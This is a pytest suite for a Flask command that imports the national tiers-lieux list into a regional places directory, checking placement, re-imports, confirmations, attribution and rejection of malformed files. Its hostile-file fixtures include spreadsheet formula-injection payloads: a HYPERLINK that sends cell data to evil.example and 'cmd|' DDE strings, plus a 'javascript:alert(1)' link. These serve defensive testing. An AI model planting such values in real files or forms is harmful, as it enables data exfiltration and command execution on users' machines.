"""`flask places import`: the national list of tiers-lieux (CGET 2019) on the project's copy
places exactly the territory's 18 rows in their communes and ignores the other 1,494; a second
import changes nothing; a confirmed place is never overwritten; the licence's attribution is on
the places pages and in the open data; a hostile file is refused with a clear message, exit
status 1 and nothing written. Run through Flask's CLI runner, on the real gazetteer."""
from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import func, select

from app.places.cleaning import repair_mojibake
from app.places.importer import MAX_BYTES, MAX_ROWS, import_places
from models import Commune, Place, PlaceKind, PlaceStatus, db
from tests.helpers.apps import csrf_from, login_as
from tests.helpers.tierslieux import EXPECTED, ROWS, SHIPPED, write_variant

ATTRIBUTION = "Source : CGET / ANCT, Mission Coworking, base des tiers-lieux 2019"
SUMMARY = ("1512 rows: 18 created, 0 updated, 0 unchanged, 0 kept because confirmed, "
           "1494 ignored (outside the territory), 0 unplaced, 0 invalid.")


def run_import(runner, path, *options):
    result = runner.invoke(args=["places", "import", str(path), *options])
    db.session.rollback()  # see what the command committed
    return result


def snapshot() -> list[tuple]:
    """Every column of every place: a refused or repeated import must leave it as it was."""
    db.session.expire_all()
    columns = Place.__table__.columns
    return [tuple(getattr(p, c.key) for c in columns)
            for p in db.session.scalars(select(Place).order_by(Place.id))]


def by_source_id() -> dict[str, Place]:
    db.session.expire_all()
    return {p.source_id: p for p in db.session.scalars(select(Place))}


def test_the_shipped_file_places_the_18_rows_of_the_territory(runner):
    result = run_import(runner, SHIPPED)
    assert result.exit_code == 0, result.output
    assert SUMMARY in result.output
    places = by_source_id()
    assert {sid: p.commune_insee for sid, p in places.items()} == {
        sid: insee for sid, (insee, _how) in EXPECTED.items()}
    for place in places.values():
        assert (place.source, place.status, place.confirmed_at, place.confirmed_by_id) == (
            "CGET 2019", PlaceStatus.OPEN, None, None)
        assert place.to_confirm and place.imported_at is not None
    # The three placed by their coordinates are said, with the commune they went to.
    for sid in ("1092", "1094", "1095"):
        name = db.session.get(Commune, EXPECTED[sid][0]).name
        assert f"Placed by its coordinates: ID {sid} in {name} ({EXPECTED[sid][0]})." \
            in result.output
    # The type is kept: two fablabs, the rest coworking.
    assert {sid for sid, p in places.items() if p.kind == PlaceKind.FABLAB} == {"1264", "1297"}
    assert {p.kind for p in places.values()} == {PlaceKind.FABLAB, PlaceKind.COWORKING}
    # What real data looks like: the leading no-break space of a site goes, a cut URL keeps
    # its site, the two places at the same address in Mende are two places.
    assert places["1099"].name == "PING'PONG COWORK"
    assert places["1099"].website == "http://www.pingpong-cowork.com"
    assert places["1089"].website == "http://solozere.com/"
    assert places["1101"].address == places["1117"].address.replace("EInstein", "Einstein")
    # "Bà¤timent" is mojibake no certain repair undoes: kept, and said.
    assert places["705"].address == "Hôtel d'entreprises - rue Henri Michel -Bà¤timent Occitan"
    assert "Note: ID 705: ADRESSE kept as it is" in result.output


def test_how_each_row_is_placed(app):
    """INSEE code when the list has it, else postcode and name, else the coordinates."""
    report = import_places(db.session, SHIPPED)
    assert report.placed == EXPECTED
    assert report.rows == ROWS and report.ignored == ROWS - 18
    db.session.rollback()


def test_a_second_import_changes_nothing(runner):
    assert run_import(runner, SHIPPED).exit_code == 0
    before = snapshot()
    result = run_import(runner, SHIPPED)
    assert result.exit_code == 0, result.output
    assert ("1512 rows: 0 created, 0 updated, 18 unchanged, 0 kept because confirmed, "
            "1494 ignored (outside the territory), 0 unplaced, 0 invalid.") in result.output
    assert snapshot() == before


def test_a_dry_run_writes_nothing(runner):
    result = run_import(runner, SHIPPED, "--dry-run")
    assert result.exit_code == 0 and "Dry run, nothing written: " + SUMMARY in result.output
    assert db.session.scalar(select(func.count()).select_from(Place)) == 0


def _edit_form(place: Place, **changes) -> dict:
    return {"name": place.name, "status": place.status, "kind": place.kind or "",
            "website": place.website, "commune": place.commune.label, "address": place.address,
            "description": "", "capacity_desks": "", "surface_m2": "", "rent_eur_month": "",
            "opening_hours": "", "charter": "", "governance_model": "",
            **{f"plans-{i}-{k}": "" for i in range(3) for k in ("name", "price", "included_days")},
            **{f"plans-{i}-period": "day" for i in range(3)}, **changes}


def test_confirmed_places_are_never_overwritten(app, runner, client, make_user, tmp_path):
    assert run_import(runner, SHIPPED).exit_code == 0
    places = by_source_id()
    polen, pingpong = places["1101"], places["1099"]
    page = client.get(f"/places/{polen.id}").get_data(as_text=True)
    assert "CGET 2019, à confirmer" in page and "Confirmer tel quel" not in page

    # A member may not confirm; without the CSRF token nobody does.
    member = app.test_client()
    login_as(member, make_user("membre@example.org"))
    token = csrf_from(member.get(f"/places/{polen.id}").get_data(as_text=True))
    assert member.post(f"/places/{polen.id}/confirm", data={"csrf_token": token}).status_code \
        == 403
    organiser = make_user("orga@example.org", role="organiser")
    login_as(client, organiser)
    assert client.post(f"/places/{polen.id}/confirm").status_code == 400
    assert by_source_id()["1101"].confirmed_at is None

    # The organiser confirms POLeN as it is.
    page = client.get(f"/places/{polen.id}").get_data(as_text=True)
    assert "Confirmer tel quel" in page
    r = client.post(f"/places/{polen.id}/confirm", data={"csrf_token": csrf_from(page)})
    assert r.status_code == 302
    polen = by_source_id()["1101"]
    assert polen.confirmed_at is not None and polen.confirmed_by_id == organiser.id
    page = client.get(f"/places/{polen.id}").get_data(as_text=True)
    assert "à confirmer" not in page and "CGET 2019, confirmé le" in page

    # Ping'Pong's animator corrects it: editing confirms too.
    animator = make_user("anim@example.org")
    pingpong.animators.append(animator)
    db.session.commit()
    ca = app.test_client()
    login_as(ca, animator)
    edit = ca.get(f"/places/{pingpong.id}/edit").get_data(as_text=True)
    assert "Enregistrer confirme ses informations" in edit
    r = ca.post(f"/places/{pingpong.id}/edit", data=_edit_form(
        pingpong, name="Ping Pong Cowork", kind="coworking", website="https://pingpong.example",
        csrf_token=csrf_from(edit)))
    assert r.status_code == 302, r.get_data(as_text=True)
    pingpong = by_source_id()["1099"]
    assert (pingpong.name, pingpong.website) == ("Ping Pong Cowork", "https://pingpong.example")
    assert pingpong.confirmed_by_id == animator.id

    # A new version of the list changes all three: only the unconfirmed one follows it.
    changed = write_variant(tmp_path / "2020.csv", {
        "1101": {"NOM_TL": "POLeN 2020"}, "1099": {"NOM_TL": "PING'PONG 2020"},
        "1117": {"NOM_TL": "Tiers Truck 2020", "TYPO": "Tiers lieux à dominante fablab"}})
    kept = {sid: snapshot_of(p) for sid, p in by_source_id().items() if sid in ("1101", "1099")}
    result = run_import(runner, changed)
    assert result.exit_code == 0, result.output
    assert ("0 created, 1 updated, 15 unchanged, 2 kept because confirmed") in result.output
    after = by_source_id()
    assert {sid: snapshot_of(after[sid]) for sid in kept} == kept
    assert (after["1117"].name, after["1117"].kind) == ("Tiers Truck 2020", PlaceKind.FABLAB)
    assert after["1117"].to_confirm


def snapshot_of(place: Place) -> tuple:
    return tuple(getattr(place, c.key) for c in Place.__table__.columns)


def test_the_attribution_is_on_the_places_pages_and_in_the_open_data(runner, client):
    assert "base des tiers-lieux 2019" not in client.get("/places/").get_data(as_text=True)
    assert run_import(runner, SHIPPED).exit_code == 0
    place = by_source_id()["1264"]
    listing = client.get("/places/").get_data(as_text=True)
    assert ATTRIBUTION in listing and "Licence Ouverte 2.0" in listing
    assert listing.count("CGET 2019, à confirmer") >= 18
    page = client.get(f"/places/{place.id}").get_data(as_text=True)
    assert ATTRIBUTION in page and "CGET 2019, à confirmer" in page
    assert "Plutôt un fablab" in page and 'href="https://www.millaulab.fr"' in page
    assert ATTRIBUTION in client.get("/open-data/").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(client.get("/open-data/places.csv").get_data(
        as_text=True).lstrip("\ufeff"))))
    assert len(rows) == 18
    assert {(r["source"], r["confirmed"], r["attribution"]) for r in rows} == {
        ("CGET 2019", "False", ATTRIBUTION)}
    millaulab = next(r for r in rows if r["source_id"] == "1264")
    assert (millaulab["insee"], millaulab["kind"]) == ("12145", "fablab")
    points = json.loads(client.get("/open-data/places.geojson").data)
    assert points["attribution"] == [ATTRIBUTION]
    assert {f["properties"]["attribution"] for f in points["features"]} == {ATTRIBUTION}
    api = client.get(f"/api/v1/places/{place.id}").get_json()
    assert api["source"] == {"name": "CGET 2019", "id": "1264", "confirmed": False,
                             "attribution": ATTRIBUTION}


# ------------------------------------------------------------------------------ hostile files

def _formulas(path):
    return write_variant(path, {
        "464": {"NOM_TL": '=HYPERLINK("http://evil.example/?x="&A1,"Coworking Rodez")'},
        "1099": {"ADRESSE": "+cmd|' /C calc'!A0"},
        "1297": {"WEB": "@SUM(1+1)*cmd|' /C calc'!A0"},
        "1101": {"NOM_TL": "POLeN renamed"}})  # a change before them: not written either


def _too_many_rows(path):
    # 100,000 short rows in the territory: refused before anything is looked at.
    with path.open("w", encoding="utf-8") as f:
        f.write("ID,NOM_TL,ADRESSE,CP,COMINIT,INSEECOM,TYPO,LAT,LONG\n")
        for i in range(100_000):
            f.write(f"{i},Lieu {i},,12000,Rodez,12202,,44.35,2.57\n")
    return path


def _too_big(path):
    with path.open("w", encoding="utf-8") as f:
        f.write("ID,NOM_TL,ADRESSE,CP,COMINIT,INSEECOM,TYPO,LAT,LONG\n")
        f.write(("1," + "x" * 1000 + ",,12000,Rodez,12202,,44.35,2.57\n") * (MAX_BYTES // 1000))
    return path


def _cut(path):
    write_variant(path)
    data = path.read_bytes()
    path.write_bytes(data[: data.index(b"\n1264,") + 30])  # the file stops inside a row
    return path


HOSTILE = {
    "latin-1": (lambda p: write_variant(p, encoding="cp1252"), "is not UTF-8 (line 2"),
    "utf-16": (lambda p: write_variant(p, encoding="utf-16"), "is in UTF-16"),
    "missing columns": (lambda p: write_variant(p, drop=("INSEECOM", "LAT")),
                        "Columns missing: INSEECOM, LAT"),
    "semicolons": (lambda p: write_variant(p, delimiter=";"), "separated by semicolons"),
    "100,000 rows": (_too_many_rows, f"more than {MAX_ROWS:,} rows"),
    "too big": (_too_big, f"at most {MAX_BYTES // 1024 // 1024} MB"),
    "cut": (_cut, "fields where the header has 28"),
    "formulas": (_formulas, "3 cells start like a spreadsheet formula"),
    "ID twice": (lambda p: write_variant(p, extra=[{"ID": "1101", "NOM_TL": "Autre", "CP": "12000",
                                                    "COMINIT": "Rodez"}]),
                 "The ID '1101' is on lines"),
    "empty": (lambda p: p.write_bytes(b"") or p, "The file is empty"),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_file_is_refused_cleanly_and_writes_nothing(runner, tmp_path, kind):
    assert run_import(runner, SHIPPED).exit_code == 0
    before = snapshot()
    make, message = HOSTILE[kind]
    result = run_import(runner, make(tmp_path / "hostile.csv"))
    assert result.exit_code == 1, result.output
    assert "Error: " in result.output and message in result.output, result.output
    assert "Nothing was imported." in result.output
    assert "Traceback" not in result.output and isinstance(result.exception, SystemExit)
    assert snapshot() == before


def test_the_formula_cells_are_named(runner, tmp_path):
    result = run_import(runner, _formulas(tmp_path / "f.csv"))
    assert "ID 464), NOM_TL: '=HYPERLINK(" in result.output
    assert "ID 1099), ADRESSE: \"+cmd|' /C calc'!A0\"" in result.output
    assert "ID 1297), WEB: \"@SUM(1+1)*cmd|' /C calc'!A0\"" in result.output
    assert db.session.scalar(select(func.count()).select_from(Place)) == 0


# ------------------------------------------------------------------- rows that cannot be placed

def test_rows_that_cannot_be_placed_are_reported_not_dropped(runner, tmp_path):
    path = write_variant(tmp_path / "rows.csv", only={"464", "2"}, extra=[
        {"ID": "9001", "NOM_TL": "Nulle part", "CP": "12000", "COMINIT": "Gotham",
         "INSEECOM": "0", "LAT": "", "LONG": ""},
        {"ID": "9002", "NOM_TL": "Ancienne commune", "CP": "0", "COMINIT": "",
         "INSEECOM": "12999", "LAT": "0", "LONG": "0"},
        {"ID": "9003", "NOM_TL": "Mauvais code postal", "CP": "48000", "COMINIT": "Rodez",
         "INSEECOM": "0", "LAT": "44.350382", "LONG": "2.573387"},  # Rodez's coordinates
        {"ID": "9004", "NOM_TL": "", "CP": "12100", "COMINIT": "Millau", "INSEECOM": "0"},
        {"ID": "9005", "NOM_TL": "CafÃ© des Causses", "ADRESSE": "Place du ThÃ©Ã¢tre",
         "CP": "12100", "COMINIT": "Millau", "INSEECOM": "0", "WEB": "javascript:alert(1)"},
        {"ID": "9006", "NOM_TL": " Sans commune\nmais\x1b\u00a0dedans", "CP": "", "COMINIT": "",
         "INSEECOM": "", "LAT": "44.5281373", "LONG": "3.4667336"},  # Mende's coordinates
        {"ID": "9007", "NOM_TL": "Ailleurs", "CP": "75010", "COMINIT": "Paris", "INSEECOM": "0",
         "LAT": "48.87", "LONG": "2.36"},
    ])
    result = run_import(runner, path)
    assert result.exit_code == 0, result.output
    assert ("9 rows: 3 created, 0 updated, 0 unchanged, 0 kept because confirmed, 2 ignored "
            "(outside the territory), 3 unplaced, 1 invalid.") in result.output
    assert "Unplaced: ID 9001: postcode 12000, commune 'Gotham' match no commune of the " \
        "gazetteer, and no coordinates." in result.output
    assert "Unplaced: ID 9002: INSEE code 12999 match no commune" in result.output
    assert "Unplaced: ID 9003: its coordinates fall in Rodez (12202), whose postcodes are " \
        "12000, not 48000." in result.output
    assert "Invalid: ID 9004: no name (NOM_TL)." in result.output
    assert "Note: ID 9005: website 'javascript:alert(1)' is not a web address" in result.output
    places = by_source_id()
    assert set(places) == {"464", "9005", "9006"}
    # Mojibake that reads back as UTF-8 with nothing garbled left is repaired.
    assert (places["9005"].name, places["9005"].address, places["9005"].website) == (
        "Café des Causses", "Place du Théâtre", "")
    assert "Note: ID 9005: NOM_TL repaired: 'CafÃ© des Causses' -> 'Café des Causses'" \
        in result.output
    assert places["9006"].commune_insee == "48095" and places["9005"].kind is None
    assert places["9006"].name == "Sans commune mais dedans"  # one line, no control character


@pytest.mark.parametrize("garbled, repaired", [
    ("ThÃ©Ã¢tre", "Théâtre"), ("ArrÃªt-Minute", "Arrêt-Minute"), ("lâ€™atelier", "l’atelier"),
    ("http://www.chezmÃ©mÃ©.fr", "http://www.chezmémé.fr"), ("1Âª place", "1ª place"),
])
def test_mojibake_is_repaired_when_certain(garbled, repaired):
    assert repair_mojibake(garbled) == (repaired, True)


@pytest.mark.parametrize("kept", [
    "Bà¤timent Occitan",  # not UTF-8 read the wrong way: no certain repair
    "Théâtre ThÃ©Ã¢tre",  # half right, half garbled: reading it again breaks the right half
    "Café", "CHÂTEAUROUX", "Saint-Chély-d'Apcher", "Coworking Rodez",
])
def test_text_is_kept_when_a_repair_is_not_certain(kept):
    assert repair_mojibake(kept) == (kept, False)
